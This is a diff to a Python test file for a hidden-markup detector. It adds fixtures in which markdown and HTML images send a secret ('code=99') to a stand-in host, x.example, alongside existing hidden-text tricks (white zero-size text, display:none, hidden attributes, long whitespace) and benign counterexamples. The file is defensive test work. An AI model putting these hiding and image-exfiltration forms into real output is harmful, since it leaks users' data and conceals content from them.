@@ -17,11 +17,18 @@ HIDING = {
     "style": 'The tower is high. <span style="color:white;font-size:0">The gate code is 99.</span>',
     "not displayed": "<div style='display: none'>The gate code is 99.</div>",
     "attribute": "<p hidden>The gate code is 99.</p>",
+    "image on another host": "It is high. ![plan](https://x.example/p.png?code=99)",
+    "image without a scheme": "It is high. ![plan]( <//x.example/99.png> )",
+    "image by reference": "It is high. ![plan][p]\n\n[P]: https://x.example/99.png",
+    "image by its name": "It is high. ![plan]\n\n[plan]: https://x.example/99.png",
+    "element of an image": "It is high. <img alt='plan' src=\"https://x.example/p.png?code=99\">",
     "far behind": f"The tower is high.{' ' * 3000}The gate code is 99.",
 }
 PLAIN = (
     "See [the report](https://example.com/a_(b)) and ![a plan](plan.png), [1] and [2]: both agree.",
     "[1]: https://example.com/report\n[2]: <https://example.com/other>",
+    "![a plan][plan] of the [tower][1]\n\n[plan]: plan.png\n[1]: https://example.com/tower?page=2",
+    "The image ![a] is in <https://example.com/a.png?b=c>, and <img src='plan.png'> too.",
     "| a | b |\n|---|---|\n| 1 <br> 2 | x < y and y > z |",
     "<!-- -->\nThe **tower** is `hidden` in fog; color: white.",
     "```html\n<div class='hidden-characters'><p>Text</p></div>\n```",
@@ -41,7 +48,23 @@ def test_ordinary_markup_hides_nothing(text: str) -> None:
     assert find_hidden_markup(text) == ""
 
 
-PIECES = ("<!--", "](a ", "[a]: b ", "<a ", " ", "\n", "[a]:\n", "<a hidden", '](x "y', "[" * 9, "<a style='", "\t<")
+PIECES = (
+    "<!--",
+    "](a ",
+    "[a]: b ",
+    "<a ",
+    " ",
+    "\n",
+    "[a]:\n",
+    "<a hidden",
+    '](x "y',
+    "[" * 9,
+    "<a style='",
+    "\t<",
+    "![",
+    "![a]",
+    "<img ",
+)
 
 
 @pytest.mark.parametrize("piece", PIECES)
